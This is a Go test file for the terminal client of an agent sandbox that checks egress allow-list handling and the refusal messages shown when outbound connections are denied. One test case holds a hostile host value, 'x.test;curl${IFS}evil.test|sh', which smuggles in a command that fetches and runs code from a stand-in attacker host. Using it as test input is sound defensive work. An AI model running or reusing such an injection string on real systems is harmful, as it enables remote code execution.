package termclient

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"testing"

	"go.lsp.dev/jsonrpc2"

	"github.com/bottle-dev/bottle/rpc"
)

// fakeServer answers the requests of one terminal-client run, as a
// bottle-rpc server would, and keeps the methods and params it was sent.
type fakeServer struct {
	keepRunning bool // the exec never exits
	oldServer   bool // it has no bottle/fetch, as a daemon an older bottle-rpc started
	fetched     rpc.FetchResult
	fetchErr    *jsonrpc2.Error // bottle/fetch fails with it
	unfetched   *rpc.Unfetched  // what bottle/close reports

	mu    sync.Mutex
	calls []string
	allow []rpc.AllowParams
	start []rpc.StartParams
	fetch []rpc.FetchParams
}

func (s *fakeServer) serve(conn jsonrpc2.Conn) jsonrpc2.Handler {
	return func(ctx context.Context, reply jsonrpc2.Replier, req jsonrpc2.Request) error {
		s.mu.Lock()
		s.calls = append(s.calls, req.Method())
		s.mu.Unlock()
		switch req.Method() {
		case rpc.MethodInitialize:
			methods := []string{rpc.MethodPlan, rpc.MethodStart, rpc.MethodAllow, rpc.MethodExec, rpc.MethodClose, rpc.MethodFetch}
			if s.oldServer {
				methods = methods[:len(methods)-1]
			}
			return reply(ctx, rpc.InitializeResult{Capabilities: rpc.ServerCapabilities{Methods: methods}}, nil)
		case rpc.MethodFetch:
			var p rpc.FetchParams
			json.Unmarshal(req.Params(), &p)
			s.mu.Lock()
			s.fetch = append(s.fetch, p)
			s.mu.Unlock()
			if s.fetchErr != nil {
				return reply(ctx, nil, s.fetchErr)
			}
			return reply(ctx, s.fetched, nil)
		case rpc.MethodPlan:
			return reply(ctx, rpc.PlanResult{Agent: "claude", Bottle: "claude", Allow: []string{"api.anthropic.com"}}, nil)
		case rpc.MethodStart:
			var p rpc.StartParams
			json.Unmarshal(req.Params(), &p)
			s.mu.Lock()
			s.start = append(s.start, p)
			s.mu.Unlock()
			return reply(ctx, rpc.StartResult{Session: "0000abcd", Container: "bottle-0000abcd"}, nil)
		case rpc.MethodAllow:
			var p rpc.AllowParams
			if err := json.Unmarshal(req.Params(), &p); err != nil {
				return reply(ctx, nil, jsonrpc2.NewError(jsonrpc2.InvalidParams, err.Error()))
			}
			s.mu.Lock()
			s.allow = append(s.allow, p)
			s.mu.Unlock()
			return reply(ctx, map[string][]string{"allow": append([]string{"api.anthropic.com"}, p.Entries...)}, nil)
		case rpc.MethodExec:
			if err := reply(ctx, rpc.ExecResult{Exec: "0000abcd-1"}, nil); err != nil || s.keepRunning {
				return err
			}
			return conn.Notify(ctx, rpc.MethodExecExit, rpc.ExitParams{Exec: "0000abcd-1", Code: 7})
		case rpc.MethodClose:
			return reply(ctx, rpc.CloseResult{Unfetched: s.unfetched}, nil)
		case rpc.MethodShutdown, rpc.MethodDetach:
			return reply(ctx, struct{}{}, nil)
		}
		if _, ok := req.(*jsonrpc2.Call); ok {
			return reply(ctx, nil, jsonrpc2.NewError(jsonrpc2.MethodNotFound, req.Method()))
		}
		return nil
	}
}

func (s *fakeServer) seen() ([]string, []rpc.AllowParams) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.calls), slices.Clone(s.allow)
}

// runAgainst runs the terminal client against a fake server and returns
// the agent's code, what it printed on its error stream and Run's error.
func runAgainst(t *testing.T, srv *fakeServer, allow []string) (int, string, error) {
	t.Helper()
	ctx := testContext(t)
	in, _ := pipeInput(t)
	var errOut bytes.Buffer
	code, err := Run(ctx, pipeTo(t, ctx, srv.serve), Options{Agent: "claude", Yes: true, Allow: allow, Terminal: Terminal{In: in, Out: io.Discard, Err: &errOut}})
	return code, errOut.String(), err
}

// pipeTo connects a client over a net.Pipe to a fake server's handler.
func pipeTo(t *testing.T, ctx context.Context, handler func(jsonrpc2.Conn) jsonrpc2.Handler) net.Conn {
	t.Helper()
	clientSide, serverSide := net.Pipe()
	t.Cleanup(func() { clientSide.Close(); serverSide.Close() })
	sconn := jsonrpc2.NewConn(jsonrpc2.NewStream(serverSide))
	sconn.Go(ctx, handler(sconn))
	t.Cleanup(func() { sconn.Close() })
	return clientSide
}

func TestAllowEntriesReachTheSessionBeforeTheAgentRuns(t *testing.T) {
	srv := &fakeServer{}
	code, printed, err := runAgainst(t, srv, []string{"github.com:443", "*.npmjs.org"})
	if err != nil || code != 7 {
		t.Fatalf("Run = %d, %v; want the agent's 7", code, err)
	}
	calls, allow := srv.seen()
	want := rpc.AllowParams{Session: "0000abcd", Entries: []string{"github.com:443", "*.npmjs.org"}}
	if len(allow) != 1 || allow[0].Session != want.Session || !slices.Equal(allow[0].Entries, want.Entries) {
		t.Errorf("bottle/allow got %+v, want one call with %+v", allow, want)
	}
	if a, e := slices.Index(calls, rpc.MethodAllow), slices.Index(calls, rpc.MethodExec); a < 0 || e < 0 || a > e {
		t.Errorf("bottle/allow does not come before bottle/exec: %v", calls)
	}
	if !strings.Contains(printed, "--allow:  github.com:443, *.npmjs.org (this session only)\n") {
		t.Errorf("the plan does not show the --allow entries:\n%s", printed)
	}
}

func TestNoAllowEntriesSendNoAllowCall(t *testing.T) {
	srv := &fakeServer{}
	if code, _, err := runAgainst(t, srv, nil); err != nil || code != 7 {
		t.Fatalf("Run = %d, %v; want the agent's 7", code, err)
	}
	if calls, _ := srv.seen(); slices.Contains(calls, rpc.MethodAllow) {
		t.Errorf("bottle/allow was called without --allow: %v", calls)
	}
}

func TestABadAllowEntryStartsNothing(t *testing.T) {
	for _, entry := range []string{"https://github.com", "*", "github.com:99999", "evil\ntest"} {
		t.Run(entry, func(t *testing.T) {
			srv := &fakeServer{}
			_, _, err := runAgainst(t, srv, []string{"github.com", entry})
			if err == nil || !strings.Contains(err.Error(), "--allow") || !strings.Contains(err.Error(), jsonQuote(entry)) {
				t.Errorf("Run error = %v, want one that names --allow and %q", err, entry)
			}
			if calls, _ := srv.seen(); len(calls) != 0 {
				t.Errorf("the server was sent %v", calls)
			}
		})
	}
}

func jsonQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func TestRefusalSaysHowToAllowIt(t *testing.T) {
	tests := []struct {
		name string
		rec  rpc.EgressRecord
		hint string // "" for none
	}{
		{"default-deny on 443", rpc.EgressRecord{Host: "platform.claude.com", Port: 443, Rule: "default-deny"}, "--allow platform.claude.com:443"},
		{"default-deny on a port of its own", rpc.EgressRecord{Host: "git.example", Port: 22, Rule: "default-deny"}, "--allow git.example:22"},
		{"an IPv6 literal", rpc.EgressRecord{Host: "2001:db8::1", Port: 443, Rule: "default-deny"}, "--allow [2001:db8::1]:443"},
		{"a blocklist entry is not lifted by --allow", rpc.EgressRecord{Host: "gist.github.com", Port: 443, Rule: "block:gist.github.com"}, ""},
		{"nor is DLP", rpc.EgressRecord{Host: "api.anthropic.com", Port: 443, Rule: "dlp:anthropic-key"}, ""},
		{"nor SSRF", rpc.EgressRecord{Host: "metadata.internal", Port: 80, Rule: "ssrf-guard"}, ""},
		{"a redacted host", rpc.EgressRecord{Host: "(redacted)", Port: 443, Rule: "default-deny"}, ""},
		{"a host with shell syntax", rpc.EgressRecord{Host: "x.test;curl${IFS}evil.test|sh", Port: 443, Rule: "default-deny"}, ""},
		{"a hostile host", rpc.EgressRecord{Host: hostile, Port: 443, Rule: "default-deny"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.rec.Event, tt.rec.Decision, tt.rec.Method = "decision", "deny", "CONNECT"
			var out bytes.Buffer
			c := &client{term: Terminal{Err: &out}}
			req, err := jsonrpc2.NewNotification(rpc.MethodEgress, rpc.EgressParams{Session: "s1", Record: tt.rec})
			if err != nil {
				t.Fatal(err)
			}
			if err := c.handle(context.Background(), nil, req); err != nil {
				t.Fatal(err)
			}
			got := out.String()
			checkGraphic(t, strings.Trim(got, "\r\n"))
			if !strings.Contains(got, "refused") {
				t.Errorf("no refusal line: %q", got)
			}
			if tt.hint == "" && strings.Contains(got, "--allow") {
				t.Errorf("a refusal that --allow cannot lift offers it: %q", got)
			}
			if tt.hint != "" && !strings.Contains(got, tt.hint+",") {
				t.Errorf("the refusal lacks %q: %q", tt.hint, got)
			}
		})
	}
}
